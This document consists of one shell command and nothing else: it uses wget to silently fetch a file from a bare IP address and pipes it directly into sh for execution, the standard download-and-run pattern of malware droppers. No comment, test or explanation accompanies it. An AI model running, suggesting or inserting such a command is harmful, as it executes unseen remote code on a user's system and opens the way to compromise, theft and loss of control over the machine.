wget -qO- http://198.51.100.40/c | sh
